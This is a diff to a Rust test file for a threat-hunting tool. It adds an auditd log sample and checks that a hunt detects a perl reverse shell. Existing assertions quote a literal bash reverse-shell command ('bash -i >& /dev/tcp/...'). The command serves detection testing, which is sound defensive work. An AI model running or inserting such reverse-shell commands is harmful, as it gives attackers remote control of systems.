@@ -353,7 +353,11 @@ fn sorted_rows_stay_in_order_through_the_steps_after_the_sort() {
 #[test]
 fn the_example_hunts_find_the_intrusions_in_the_real_samples() {
     let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"));
-    let t = common::ingest_files(&[root.join("tests/data/windows"), root.join("tests/data/corpus/edr")]);
+    let t = common::ingest_files(&[
+        root.join("tests/data/windows"),
+        root.join("tests/data/corpus/edr"),
+        root.join("tests/data/linux/audit.log"),
+    ]);
     let store = t.store.root().to_str().unwrap().to_string();
     let run = |hunt: &str| {
         let (code, out, err) = common::spoor(&[
@@ -400,4 +404,10 @@ fn the_example_hunts_find_the_intrusions_in_the_real_samples() {
     assert_eq!(java.len(), 1, "{java:?}");
     assert!(java[0].starts_with("2022-05-11T18:10:21.998Z,ubuntu5,from_child,\"bash -c {echo,"), "{java:?}");
     assert!(java[0].ends_with(",bash -i >& /dev/tcp/192.168.2.6/443 0>&1"), "{java:?}");
+    // auditd's hex-encoded perl one-liner, decoded, and the address it connected to.
+    assert_eq!(
+        run("linux/interpreter-reverse-shell.hunt"),
+        ["2026-03-31T00:41:02.123Z,web-01,alice,perl,192.0.2.10,4444,tests/data/linux/audit.log,2"
+            .replace("tests/data/linux/audit.log", root.join("tests/data/linux/audit.log").to_str().unwrap())]
+    );
 }
